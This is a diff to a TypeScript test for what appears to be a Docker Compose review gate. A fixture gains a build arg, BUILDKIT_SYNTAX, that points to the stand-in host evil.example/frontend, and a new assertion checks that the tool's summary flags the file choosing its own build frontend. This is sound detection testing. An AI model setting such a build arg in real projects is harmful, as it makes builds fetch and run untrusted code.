@@ -86,7 +86,10 @@ function project(workspace: string) {
     name: 'gate',
     services: {
       db: { image: 'postgres:16', privileged: true },
-      web: { build: { context: workspace, dockerfile: 'Dockerfile' }, cap_drop: ['ALL'] },
+      web: {
+        build: { context: workspace, dockerfile: 'Dockerfile', args: { BUILDKIT_SYNTAX: 'evil.example/frontend' } },
+        cap_drop: ['ALL'],
+      },
     },
   };
 }
@@ -114,6 +117,8 @@ describe('compose-files', () => {
     });
     expect(result.summary).toContain('`service web`');
     expect(result.summary).toContain('The engine does not have');
+    // What the compose file tells the builder is told as what an input tells it.
+    expect(result.summary).toContain('a frontend of its own choice: evil.example/frontend');
     // The post step takes away what the builds were called.
     const tag = result.state.get('tag') ?? 'none';
     expect(Object.keys(result.docker.names).every((name) => name.startsWith(tag))).toBe(true);
